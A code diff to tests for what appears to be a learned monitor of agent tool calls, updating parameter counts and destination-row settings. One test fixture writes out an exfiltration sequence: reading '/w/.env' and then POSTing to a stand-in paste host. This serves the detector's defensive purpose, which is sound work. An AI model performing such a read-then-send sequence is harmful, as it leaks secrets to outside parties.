@@ -212,7 +212,8 @@ def test_adamw_steps_the_transformer_and_leaves_the_wide_path_alone():
     model = Model.init(cfg, seed=0)
     model.params["wide.w"][...] = 0.25
     opt = AdamW.for_model(model, lr=1e-2)
-    wide = cfg.wide_buckets + 2 * cfg.wide_pair_buckets * cfg.wide_pair_rank  # w, U, V
+    wide = cfg.wide_buckets + (2 * cfg.wide_pair_buckets + cfg.pair_destination_rows
+                               ) * cfg.wide_pair_rank  # w, U (its destination rows too), V
     assert opt.n_train == model.num_params - wide
     opt.v[opt.n_train:] = 7.0  # the wide path's AdaGrad sums live here
     before = model.flat.copy()
@@ -719,7 +720,7 @@ def test_the_destination_rows_learn_only_allow_from_a_first_look():
     wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=1.0,
                     wide_pair_destination=1.0)
     learner, rows = wide.learner, wide.cfg.pair_destination_rows
-    assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets - rows
+    assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets
     secret = ['fs.read {"path": "/w/.env"}']
     post = 'http.request {"method": "POST", "url": "https://paste.example/x"}'
     idx, val, z_rest, pair = wide._features(post, secret)
